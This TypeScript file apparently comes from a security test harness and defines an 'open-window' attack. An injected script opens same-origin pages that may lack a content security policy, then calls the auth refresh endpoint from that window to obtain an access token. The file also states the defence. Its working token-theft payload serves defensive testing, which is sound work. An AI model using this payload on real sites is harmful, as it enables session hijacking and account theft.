// Threat: a script injected into the page opens another page of the same origin, one that might have no policy, and calls the refresh
// endpoint from there. The attacker has one hole in the page's HTML.
import type { Attack } from '../attack.ts'
import { judgeToken, readBook, scriptReport } from './loot.ts'
import type { Payload } from '../world/payload.ts'

const script: Payload = async (kit) => {
  // One click of the victim's allows one window; it can be sent on: a page, an answer of the auth endpoints, scripts shown as text, a page
  // that is not there.
  const other = window.open('/about') as (Window & typeof globalThis) | null
  if (other === null) return
  for (const path of ['/about', '/api/auth/jwks', '/auth-worker.js', '/app.js', '/missing']) {
    other.location.href = path
    await new Promise((resolve) => setTimeout(resolve, 400))
    try {
      const answer = await other.fetch('/api/auth/refresh', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: '{}',
      })
      const { accessToken } = (await answer.json()) as { accessToken?: string }
      if (accessToken === undefined) continue
      kit.take('token', accessToken)
      kit.take(`from ${path}`, path)
      break
    } catch {
      // This one has a policy; the next may have none.
    }
  }
  other.close()
}

export const openWindow: Attack = {
  name: 'open-window',
  group: 'script, late',
  title: 'Opens an address without a policy and works from there',
  what: 'The script opens other addresses of the same origin in a window (“About us”, an answer of the API, a script, a page that is not there) and makes what it finds there call the refresh endpoint.',
  why: 'Documents of one origin may reach into each other, and everything that is opened is a document. The weakest answer of an origin decides.',
  stops: 'The same policy on every answer of the origin, error pages included.',
  script: { when: 'late', payload: script },
  control: 'tutorial',
  succeedsOn: ['tutorial', 'hallpass', 'hallpass-worker-open'],
  inapplicable: ({ refreshCookie }) => (refreshCookie === undefined ? 'there is no refresh endpoint' : undefined),
  async run(scene) {
    const page = await scene.signIn()
    await scene.injectLate(script)
    await readBook(page)
    const report = await scriptReport(scene)
    const from = report.kinds.find((kind) => kind.startsWith('from '))
    const verdict = await judgeToken(scene, page, report, 'was given no token in any other window')
    return from === undefined ? verdict : { ...verdict, evidence: `${from}, opened in a window: ${verdict.evidence}` }
  },
}
